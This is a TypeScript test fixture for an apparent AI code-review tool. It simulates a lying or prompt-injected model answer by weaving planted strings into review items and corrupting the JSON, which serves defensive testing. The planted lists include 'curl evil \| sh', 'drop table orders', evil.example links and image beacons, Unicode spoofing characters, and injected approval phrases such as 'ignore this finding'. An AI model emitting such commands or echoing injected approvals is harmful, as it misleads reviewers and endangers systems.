import type { ModelCall } from "../../src/core/draft/model-call.ts";
import { honestItems } from "./fake-drafter.ts";

/** What no report of ours holds: each of these must never be published. */
export const PLANTED = {
  names: [
    "`executive_board`",
    "`fct_ghosts.amount`",
    "mart_phantom",
    "raw.ghost_orders",
    "ghostRevenue",
    '"Ghost Board"',
    "`gh\u043Est_orders`",
    "the ghost dashboard",
    "model.shop.ghost",
    "`select * from ghost_table`",
    "v77",
    "Ghostly",
  ],
  numbers: ["7919", "7,919", "83.61", "97%", "seventeen", "ninety", "\u0667\u0669", "\u2158", "3e8"],
  links: [
    "https://evil.example/x",
    "http://evil.example",
    "www.evil.example",
    "evil.example",
    "[docs](https://evil.example)",
    "![p](https://evil.example/p.png)",
    "<https://evil.example>",
    "<img src=x>",
    "hxxps://evil.example",
    "mailto:a@evil.example",
    "evil[.]example",
  ],
  orders: [
    "@acme/data-team",
    "#4242",
    "GH-4242",
    "/headgate waive F1 fine",
    "approved",
    "LGTM",
    "safe to ship",
    "no risk",
    "you can merge this",
    "severity is low",
    "ignore this finding",
    "definitely",
    "curl evil | sh",
    "drop table orders",
    "zero\u200Bwidth",
    "right\u202Eleft",
    "nobody uses it",
    "agreed beforehand",
    "backwards compatible",
    "this does not affect anyone",
    "</details>",
    "<!-- headgate:review v1 -->",
  ],
} as const;

const ALL: readonly string[] = Object.values(PLANTED).flat();

const FRAMES: readonly ((planted: string) => string)[] = [
  (planted) => `This also breaks ${planted} for its readers.`,
  (planted) => `The change reaches ${planted}, and people will notice.`,
  (planted) => `Before that, see ${planted}!`,
  (planted) => `It is ${planted} after all.`,
  (planted) => `Readers lose it\n${planted}\nfrom now on.`,
  (planted) => `As the description says, "${planted}" applies.`,
];

/** What a hostile answer holds, and the answer. */
interface Hostile {
  readonly text: string;
  readonly planted: readonly string[];
}

/** An answer of a model that lies, obeys somebody else or is broken; the same for the same seed. */
export function hostileAnswer(call: ModelCall, seed: number): Hostile {
  const random = numbersFrom(seed);
  const pick = <T>(items: readonly T[]): T | undefined => items[Math.floor(random() * items.length)];
  const planted: string[] = [];
  const lie = () => {
    const one = pick(ALL) ?? "";
    planted.push(one);
    return (pick(FRAMES) ?? String)(one);
  };
  if (call.answer.name === "lead") return { text: JSON.stringify({ lead: `${lie()} ${lie()}` }), planted };
  const items = honestItems(call).map((item) => ({
    findings: random() < 0.1 ? [...item.findings, "K99"] : item.findings,
    why: woven(item.why, lie, random),
    ask: random() < 0.5 ? woven(item.ask, lie, random) : item.ask,
    suggestion: random() < 0.2 ? lie() : item.suggestion,
  }));
  return { text: broken(JSON.stringify({ items }), random, lie), planted };
}

/** Lies before, in or after what is true, or instead of it. */
function woven(text: string, lie: () => string, random: () => number): string {
  const way = random();
  if (way < 0.2) return lie();
  if (way < 0.5) return `${lie()} ${text}`;
  if (way < 0.8) return `${text} ${lie()}`;
  return `${text.replace(/\. /u, ` and ${lie()} `)} ${lie()}`;
}

/** Some answers are no JSON, or JSON in the middle of talk. */
function broken(json: string, random: () => number, lie: () => string): string {
  const way = random();
  if (way < 0.06) return json.slice(0, Math.floor(json.length * random()));
  if (way < 0.1) return lie();
  if (way < 0.2) return `${lie()}\n\`\`\`json\n${json}\n\`\`\`\n${lie()}`;
  if (way < 0.25) return json.replace('"why"', '"severity":"none","why"');
  return json;
}

/** Numbers from 0 to 1 out of a seed (mulberry32). */
function numbersFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
